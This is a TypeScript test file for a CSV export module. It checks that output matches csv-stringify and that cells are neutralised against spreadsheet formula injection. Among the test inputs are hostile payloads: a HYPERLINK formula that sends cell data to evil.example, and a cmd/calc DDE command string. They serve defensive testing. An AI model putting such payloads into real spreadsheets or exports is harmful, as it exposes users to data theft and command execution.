import fc from 'fast-check';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, startsLikeFormula } from './export-csv';

/**
 * What the packages wrote before, with csv-stringify: each cell as text first, then quoted by it;
 * plus the formula neutralisation, written the plain way: a `'` before text beginning with = + - @
 * tab or CR (not a number), and such a cell always quoted.
 */
const FORMULA = /^[=+\-@\t\r]/;
/** What the rows of these tests hold. */
type Cell = string | number | boolean | null | undefined | string[];
const referenceCell = (v: Cell) => {
  const text = v === null || v === undefined ? '' : Array.isArray(v) ? v.join('; ') : String(v);
  return !(typeof v === 'number' && Number.isFinite(v)) && FORMULA.test(text) && !/^-\d+(\.\d+)?$/.test(text)
    ? `'${text}`
    : text;
};
const reference = (rows: Cell[][]) =>
  stringify(
    rows.map((row) => row.map(referenceCell)),
    { quoted_match: /^'[=+\-@\t\r]/ },
  );

/** The text of one cell as a spreadsheet program reads it back (quotes taken off). */
const readBack = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);

describe('CSV of the packages', () => {
  it('writes what csv-stringify writes, hostile text included', () => {
    const rows: Cell[][] = [
      ['plain', 'with, comma', 'with "quotes"', 'two\nlines', 'carriage\rreturn', 'crlf\r\nend', ''],
      [null, undefined, 0, 42.5, true, false, ['calendar', 'calendar.readonly']],
      ['"', '""', ',', '\n', ' spaced ', '=SUM(A1)', 'é ü 中文 🙂'],
      ['\ufeffbom', 'tab\there', ';semi;', "it's", '\\back\\slash', 'trailing,', ['a, b', 'c"d']],
    ];
    expect(rows.map(csvLine).join('')).toBe(reference(rows));
  });

  it('writes random text as csv-stringify does', () => {
    const alphabet = ['a', 'Z', ' ', ',', '"', '\n', '\r', ';', 'è', '\t', '0'];
    let seed = 7;
    const random = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
    const rows = Array.from({ length: 200 }, () =>
      Array.from({ length: 5 }, () =>
        Array.from({ length: Math.floor(random() * 12) }, () => alphabet[Math.floor(random() * alphabet.length)]).join(
          '',
        ),
      ),
    );
    expect(rows.map(csvLine).join('')).toBe(reference(rows));
  });

  it('neutralises a cell that a spreadsheet would run as a formula (OWASP): a quote before it, and quoted', () => {
    expect(csvCell('=HYPERLINK("https://evil.example/?"&A1,"click")')).toBe(
      '"\'=HYPERLINK(""https://evil.example/?""&A1,""click"")"',
    );
    expect(csvCell('+39 333 1234567')).toBe('"\'+39 333 1234567"');
    expect(csvCell("-2+3+cmd|' /C calc'!A0")).toBe("\"'-2+3+cmd|' /C calc'!A0\"");
    expect(csvCell('@SUM(1+1)')).toBe('"\'@SUM(1+1)"');
    expect(csvCell('\t=1')).toBe('"\'\t=1"');
    expect(csvCell('\r=1')).toBe('"\'\r=1"');
    expect(csvCell(['=1', 'b'])).toBe('"\'=1; b"');
    expect(csvLine(['ok', '=1+1', 'a=b'])).toBe('ok,"\'=1+1",a=b\n');
  });

  it('leaves numbers alone: a negative number is no formula', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(-0.25)).toBe('-0.25');
    expect(csvCell('-12')).toBe('-12');
    expect(csvCell('-3.50')).toBe('-3.50');
    expect(csvCell('-')).toBe('"\'-"');
    expect(csvCell('-1e3')).toBe('"\'-1e3"');
    expect(csvCell('-1+1')).toBe('"\'-1+1"');
    expect(csvCell(-Infinity)).toBe('"\'-Infinity"');
    expect(startsLikeFormula('')).toBe(false);
  });

  it('never lets a cell read back begin as a formula, and keeps the text after the quote (fast-check)', () => {
    const formulaStart = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '', 'a', '"', ',', '\n', "'");
    fc.assert(
      fc.property(
        fc.oneof(
          fc.tuple(formulaStart, fc.string()).map(([a, b]) => a + b),
          fc.string({ unit: 'binary' }),
          fc.array(fc.string(), { maxLength: 3 }),
          fc.double(),
          fc.integer(),
          fc.constantFrom(-Infinity, Infinity, NaN, -0),
        ),
        (value) => {
          const text = Array.isArray(value) ? value.join('; ') : String(value);
          const cell = csvCell(value);
          const back = readBack(cell);
          if (
            !(typeof value === 'number' && Number.isFinite(value)) &&
            FORMULA.test(text) &&
            !/^-\d+(\.\d+)?$/.test(text)
          ) {
            expect(cell.startsWith('"\'')).toBe(true);
            expect(back).toBe(`'${text}`);
          } else {
            expect(back).toBe(text);
          }
          expect(FORMULA.test(back) && !/^-[\d.]/.test(back)).toBe(false);
        },
      ),
      { numRuns: 500 },
    );
  });

  it('leaves nothing for a missing value and joins lists', () => {
    expect(csvCell(null)).toBe('');
    expect(csvCell(['a', 'b'])).toBe('a; b');
    expect(csvLine(['x', null, 'y, z'])).toBe('x,,"y, z"\n');
  });

  it('writes an object (a jsonb column) as its JSON, never as [object Object]', () => {
    expect(csvCell({ email: 'anna@example.it', name: 'Anna' })).toBe(
      '"{""email"":""anna@example.it"",""name"":""Anna""}"',
    );
    expect(csvCell([{ a: 1 }, 'b'])).toBe('"{""a"":1}; b"');
    expect(csvCell(new Date('2026-12-01T10:00:00Z'))).toBe('2026-12-01T10:00:00.000Z');
  });
});
